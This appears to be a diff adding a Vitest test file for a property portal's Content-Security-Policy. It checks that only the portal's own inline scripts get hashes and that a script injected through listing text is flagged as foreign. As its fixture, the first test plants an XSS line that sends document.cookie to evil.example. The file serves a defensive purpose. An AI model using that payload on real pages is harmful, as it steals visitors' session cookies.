@@ -1,0 +1,85 @@
+/** The CSP allows the inline scripts the portal and the framework write, not whatever a built page contains. */
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import loadDirective from 'astro/runtime/client/load.prebuilt.js';
+import { knownInlineScriptHashes, scanInlineScripts, scriptHash } from '../../scripts/lib/csp-hashes';
+import { SEARCH_PENDING_SCRIPT, prePaintScript } from '~/site/inline-scripts';
+import { securityHeaders } from '~/server/platform/security-headers';
+
+const root = fs.mkdtempSync(path.join(os.tmpdir(), 'immoz-csp-'));
+afterAll(() => fs.rmSync(root, { recursive: true, force: true }));
+
+function page(rel: string, html: string) {
+  fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
+  fs.writeFileSync(path.join(root, rel), html);
+}
+
+describe('inline script hashes of a build', () => {
+  it('hashes the portal’s and the framework’s scripts, not a script that came in with listing text', async () => {
+    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
+    page(
+      'immobilien/7/altbau/index.html',
+      `<html><head><script>${prePaintScript('de')}</script><script>${loadDirective}</script>` +
+        `<script type="application/ld+json">{"@type":"Product"}</script></head>` +
+        `<body><div class="beschreibung"><p>Schöne Wohnung</p><script>${injected}</script></div>` +
+        `<script type="module" src="/_astro/app.js"></script></body></html>`,
+    );
+    page(
+      'en/immobilien/index.html',
+      `<html><head><script>${SEARCH_PENDING_SCRIPT}</script><script>${prePaintScript('en')}</script></head></html>`,
+    );
+
+    const scan = await scanInlineScripts(root);
+    expect(scan.hashes).toEqual([...knownInlineScriptHashes()].sort());
+    for (const own of [prePaintScript('de'), prePaintScript('en'), SEARCH_PENDING_SCRIPT, loadDirective])
+      expect(scan.hashes).toContain(scriptHash(own));
+    expect(scan.hashes).not.toContain(scriptHash(injected));
+    expect(scan.foreign).toEqual([
+      { file: path.join('immobilien', '7', 'altbau', 'index.html'), hash: scriptHash(injected) },
+    ]);
+
+    const csp = securityHeaders('document', { scriptHashes: scan.hashes })['Content-Security-Policy']!;
+    const scriptSrc = csp.split('; ').find((d) => d.startsWith('script-src '))!;
+    expect(scriptSrc).toContain(`'${scriptHash(prePaintScript('de'))}'`);
+    expect(scriptSrc).not.toContain(scriptHash(injected));
+    expect(scriptSrc).not.toContain("'unsafe-inline'");
+  });
+
+  it('a script that copies a known one but changes a byte is foreign', async () => {
+    const dir = path.join(root, 'copy');
+    fs.mkdirSync(dir);
+    fs.writeFileSync(path.join(dir, 'index.html'), `<script>${prePaintScript('de')} </script>`);
+    const scan = await scanInlineScripts(dir);
+    expect(scan.hashes).not.toContain(scriptHash(`${prePaintScript('de')} `));
+    expect(scan.foreign).toHaveLength(1);
+  });
+});
+
+describe('inline scripts in the templates', () => {
+  /** Every .astro file of the portal. */
+  function templates(dir = path.resolve(__dirname, '../../src')): string[] {
+    return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
+      const full = path.join(dir, e.name);
+      return e.isDirectory() ? templates(full) : e.name.endsWith('.astro') ? [full] : [];
+    });
+  }
+
+  it('come only from src/site/inline-scripts.ts, so the build knows their hashes', () => {
+    const offenders: string[] = [];
+    for (const file of templates()) {
+      const source = fs.readFileSync(file, 'utf8');
+      for (const m of source.matchAll(/<script\b([^>]*)>/g)) {
+        const attrs = m[1] ?? '';
+        // Data blocks do not run; scripts the framework bundles are files of their own ('self').
+        if (/type="application\/(ld\+)?json"/.test(attrs)) continue;
+        if (!/\bis:inline\b|\bdefine:vars\b/.test(attrs)) continue;
+        const fromModule = /set:html=\{(prePaintScript\(\w+\)|SEARCH_PENDING_SCRIPT)\}/.test(attrs);
+        if (!fromModule || /define:vars/.test(attrs))
+          offenders.push(`${path.relative(process.cwd(), file)}: <script${attrs}>`);
+      }
+    }
+    expect(offenders).toEqual([]);
+  });
+});
